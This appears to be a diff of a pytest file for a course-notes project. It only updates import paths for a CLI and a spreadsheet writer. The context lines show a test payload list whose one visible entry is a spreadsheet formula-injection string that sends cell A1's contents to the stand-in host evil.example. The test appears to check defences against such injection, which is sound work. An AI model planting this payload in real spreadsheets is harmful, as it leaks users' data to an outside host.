@@ -9,8 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from course_notes.cli import main
-from course_notes.spreadsheet import Writer, cell
+from course_notes.adapters.cli.main import main
+from course_notes.render.spreadsheet import Writer, cell
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click me")',
